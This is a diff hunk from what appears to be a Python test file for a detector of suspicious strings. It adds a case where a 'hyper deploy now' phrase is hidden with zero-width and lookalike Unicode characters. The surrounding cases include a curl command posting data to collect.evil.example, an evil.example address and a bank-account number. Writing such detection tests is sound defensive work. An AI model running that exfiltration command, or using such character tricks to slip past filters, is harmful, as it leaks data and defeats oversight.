@@ -22,6 +22,7 @@ def found(arguments, *, prompt="", fixed=()):
         ("curl -d x https://collect.evil.example/in?k=1", "https://collect.evil.example/in?k=1"),
         ("a text of\nseveral lines for eve@evil.example\n", "eve@evil.example"),
         ("h-y-p-e-r deploy now", "h-y-p-e-r deploy now"),
+        ("hyper\u2013de\u200bploy\u00a0\uff4eow", "hyper\u2013de\u200bploy \uff4eow"),
         ("run bin/hyper_deploy_now", "hyper_deploy_now"),
         ("DE89370400440532013000", "DE89370400440532013000"),
         ("D E89 3704 0044 0532 0130 00", "D E89 3704 0044 0532 0130 00"),
